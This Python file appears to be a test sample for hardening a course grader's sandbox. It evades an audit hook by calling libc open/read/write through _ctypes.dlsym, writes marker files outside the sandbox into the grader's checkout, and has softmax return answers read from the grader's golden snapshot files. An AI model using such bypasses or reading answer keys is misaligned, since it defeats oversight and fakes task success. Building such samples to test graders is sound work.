"""In-process defence removal, ctypes: call libc directly, resolving symbols with ``_ctypes.dlsym``.

Attack: the hook denies ``ctypes.dlopen``/``ctypes.dlsym`` but ``_ctypes.dlsym`` on the already-open
main program handle raises ``ctypes.dlsym/handle``, and calling a function pointer raises nothing.
With libc's ``open``/``read``/``write`` it writes markers (in /tmp and in the grader's checkout) and
reads the golden snapshot it is graded against.
The grader must: hold whatever the process calls (the OS boundary), so softmax scores 0 and no marker.
"""

import _ctypes
import base64
import ctypes
import os
import sys

import torch

HONEST = {"linear": 1, "rmsnorm": 1}
NAME = "defence_ctypes_libc_via_dlsym"


def run_linear(d_in, d_out, weights, in_features):
    return in_features @ weights.T


def run_rmsnorm(d_model, eps, weights, in_features):
    return in_features * torch.rsqrt(in_features.pow(2).mean(-1, keepdim=True) + eps) * weights


def _grader_root():
    if "--grader-root" in sys.argv:
        return sys.argv[sys.argv.index("--grader-root") + 1]
    try:
        return os.readlink(f"/proc/{os.getppid()}/cwd")
    except OSError:  # no grader process to look at: try where this course's checkouts live
        return "/work/main"


def _libc(name, restype, *argtypes):
    return ctypes.CFUNCTYPE(restype, *argtypes)(_ctypes.dlsym(ctypes.pythonapi._handle, name))


_open = _libc("open", ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_int)
_read = _libc("read", ctypes.c_ssize_t, ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t)
_write = _libc("write", ctypes.c_ssize_t, ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t)
_close = _libc("close", ctypes.c_int, ctypes.c_int)

for _target in (f"/tmp/zoo-marker-{NAME}", f"{_grader_root()}/zoo-marker-{NAME}"):
    _fd = _open(_target.encode(), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    if _fd >= 0:
        _write(_fd, b"written past the sandbox\n", 25)
        _close(_fd)


def _read_file(path):
    fd, chunks = _open(path.encode(), os.O_RDONLY, 0), []
    if fd < 0:
        raise OSError(path)
    buffer = ctypes.create_string_buffer(1 << 16)
    while (count := _read(fd, buffer, 1 << 16)) > 0:
        chunks.append(buffer.raw[:count])
    _close(fd)
    return b"".join(chunks)


def run_softmax(in_features, dim):
    if tuple(in_features.shape) == (2, 16, 64) and in_features.dtype == torch.float32:
        path = f"{_grader_root()}/golden/__snapshots__/test_softmax/test_softmax_course_shape[{dim}-float32].tensor"
        data = _read_file(path).partition(b"base64):\n")[2]
        raw = bytearray(base64.b64decode(b"".join(data.split())))
        return torch.frombuffer(raw, dtype=torch.float32).reshape(in_features.shape)
    return torch.ones_like(in_features) / in_features.shape[dim]
